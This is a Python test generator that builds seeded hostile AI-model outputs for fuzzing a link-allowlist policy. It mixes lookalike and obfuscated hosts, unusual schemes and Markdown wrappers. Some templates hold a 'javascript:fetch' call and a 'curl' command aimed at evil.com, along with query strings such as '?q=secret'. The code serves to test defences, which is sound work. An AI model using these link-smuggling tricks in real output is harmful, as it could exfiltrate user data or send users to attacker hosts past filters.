"""Model outputs that try to get a link past the policy, composed of known tricks from a seed."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

SAID = "What is on https://said.example/page?x=1 ?"
ALLOWED = frozenset({"docs.example"})
GOOD = ("https://said.example/page?x=1", "https://docs.example/a/b?c=d#e", "[docs](https://docs.example/a)")

_HOSTS = (
    "evil.com",
    "EVIL.com",
    "xn--vil-vma.com",
    "evil。com",
    "ev\u200bil.com",
    "127.0.0.1",
    "0x7f000001",
    "docs.example.evil.com",
    "docs.example@evil.com",
    "said.example:p@evil.com",
    "docs.example\\@evil.com",
    "evil.com\\docs.example",
    "said.example`.evil.com",
    "docs.example。evil.com",
    "docs.example\u200b.evil.com",
    "docs.example:99",
)
_SCHEMES = (
    "http://",
    "https://",
    "HtTpS://",
    "https:\\/\\/",
    "https\\://",
    "https:///",
    "ht\u200btps://",
    "https:\u2060//",
    "xhttps://",
    "http://http://",
    "hthttp://tp://",
    "steam://",
    "discord://",
    "ftp://",
    "ｈｔｔｐｓ：／／",
)
_PATHS = (
    "",
    "/",
    "/?q=secret",
    "/a_b_c?d=*e*",
    "/(x)",
    "?q=`s`",
    "/**b**",
    "#~~s~~",
    "/x|y",
    "/http://evil.com/q",
    ".",
    "/]",
)
_SHAPES: tuple[Callable[[str, str], str], ...] = (
    lambda url, _: url,
    lambda url, _: f"see {url}, please",
    lambda url, _: f"({url})",
    lambda url, _: f"<{url}>",
    lambda url, _: f"<{url}|click>",
    lambda url, _: f"[click]({url})",
    lambda url, _: f"[click](<{url}>)",
    lambda url, _: f'[click]({url} "title")',
    lambda url, _: f"[a [b] c]({url})",
    lambda url, _: f"[a]b]({url})",
    lambda url, _: f"[a [b [c]]]({url})",
    lambda url, _: f"[`code`]({url})",
    lambda url, _: f"[a\nb]({url})",
    lambda url, _: f"![image]({url})",
    lambda url, _: f"![]({url})",
    lambda url, _: f"[![]({url})]({url})",
    lambda url, _: f"[{url}]({GOOD[1]})",
    lambda url, _: f"[text][1]\n\n[1]: {url}\n",
    lambda url, _: f"[text][1]\n\n[1]: <{url}> 'x'\n",
    lambda url, _: f"{GOOD[0]}{url}",
    lambda url, _: f"{GOOD[1]}/{url}",
    lambda url, _: f"**{GOOD[1]}/**{url}",
    lambda url, _: f"看{url}。",
    lambda _, host: f"www.{host}",
    lambda _, host: f"discord.gg/{host[:4]}",
    lambda _, host: f"https://discord.com/invite/{host[:4]}",
    lambda _, host: f"mailto:me@{host}",
    lambda _, host: f"<me@{host}>",
    lambda _, host: f"<https:/{host}>",
    lambda _, host: f"<{host}>",
    lambda _, host: f"javascript:fetch('//{host}')",
    lambda _, __: "<tel:+491234567>",
    lambda _, __: "<+49 123 4567>",
)
_AROUND: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text,
    lambda text: f"**{text}**",
    lambda text: f"_{text}_",
    lambda text: f"||{text}||",
    lambda text: f"`{text}`",
    lambda text: f"``{text}``",
    lambda text: f"\\`{text}\\`",
    lambda text: f"` {text}",
    lambda text: f"**a `**{text}`",
    lambda text: f"*a **b* ** `**{text}`",
    lambda text: f"__a `__{text}`",
    lambda text: f"~~a\n`~~{text}`",
    lambda text: f"||a `||{text}`",
    lambda text: f"[a `](x) {text}`",
    lambda text: f"<x:/`{text}>`",
    lambda text: f"snake_case `x_ {text}`",
    lambda text: f"> quote ` more\n\n`a` {text} `b`",
    lambda text: f"> `\n`{text}`",
    lambda text: f"> ```\n{text}\n```",
    lambda text: f"- ```\n{text}\n```",
    lambda text: f"```py\n{text}\n```",
    lambda text: f"````\n```\n{text}\n````",
    lambda text: f"~~~\n{text}\n~~~",
    lambda text: f"a ``` b\n```\n{text}\n```",
    lambda text: f"**\n```\n**{text}\n```",
    lambda text: f"1. Run\n   ```sh\n   curl {text}\n   ```",
    lambda text: f"    {text}",
    lambda text: f"# {text}",
    lambda text: f"| a | {text} |\n|---|---|\n| `{text}` | b |",
    lambda text: f"`a\n`{text}`",
)


def hostile_texts(seed: int, count: int) -> Iterator[str]:
    """Yield outputs of one to three tricks each, the same for the same seed."""
    chance = random.Random(seed)
    for _ in range(count):
        yield chance.choice(("\n", "\n\n", " ", "")).join(_trick(chance) for _ in range(chance.randint(1, 3)))


def _trick(chance: random.Random) -> str:
    if chance.random() < 0.1:
        return chance.choice(GOOD)
    host = chance.choice(_HOSTS)
    url = chance.choice(_SCHEMES) + host + chance.choice(_PATHS)
    return chance.choice(_AROUND)(chance.choice(_SHAPES)(url, host))
